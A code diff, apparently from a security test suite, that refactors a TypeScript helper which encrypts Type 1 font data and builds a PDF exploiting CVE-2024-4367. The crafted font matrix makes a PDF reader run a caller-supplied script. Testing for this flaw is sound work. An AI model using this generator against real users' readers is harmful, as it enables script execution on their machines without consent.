@@ -1,4 +1,7 @@
-/** Encryption of Type 1 fonts: of the whole private part (55665), or of the drawing of one letter (4330). */
+/**
+ * Encryption of Type 1 fonts: of the private part (key 55665), or of the drawing of a glyph (key
+ * 4330).
+ */
 function encrypt(plain: Buffer, key: number): Buffer {
   let state = key;
   return Buffer.from(
@@ -10,13 +13,13 @@ function encrypt(plain: Buffer, key: number): Buffer {
   );
 }
 
-/** A letter, as the font names it, and its drawing: a width of 500, and for the second one a square. */
-const LETTERS: [string, number[]][] = [
+/** Glyphs by name, with their drawings: a width of 500, and a square for the second one. */
+const GLYPHS: [string, number[]][] = [
   [".notdef", [139, 248, 136, 13, 14]],
   ["B", [139, 248, 136, 13, 239, 239, 21, 239, 6, 239, 7, 9, 14]],
 ];
 
-const letter = ([name, drawing]: [string, number[]]): Buffer => {
+const glyph = ([name, drawing]: [string, number[]]): Buffer => {
   const encrypted = encrypt(Buffer.from(drawing), 4330);
   return Buffer.concat([
     Buffer.from(`/${name} ${encrypted.length} RD `),
@@ -38,15 +41,16 @@ const PRIVATE = Buffer.concat([
   Buffer.from(
     "dup /Private 8 dict dup begin\n/RD {string currentfile exch readstring pop} executeonly def\n/ND {noaccess def} executeonly def\n/NP {noaccess put} executeonly def\n/BlueValues [] def\n/lenIV 4 def\n2 index /CharStrings 2 dict dup begin\n",
   ),
-  ...LETTERS.map(letter),
+  ...GLYPHS.map(glyph),
   Buffer.from(
     "end\nend\nreadonly put\nnoaccess put\ndup /FontName get exch definefont pop\nmark currentfile closefile\n",
   ),
 ]);
 
 /**
- * CVE-2024-4367: a document with a genuine font of one letter, whose matrix, once compiled as JavaScript, is this script. The text is
- * filled and stroked, so that the reader draws the letter by itself.
+ * CVE-2024-4367: a document with a valid font of one glyph, whose matrix contains this script and
+ * runs once compiled as JavaScript. The text is filled and stroked, so that the reader draws the
+ * glyph itself.
  */
 export function fontPdf(script: string): Buffer {
   const secret = encrypt(PRIVATE, 55_665);
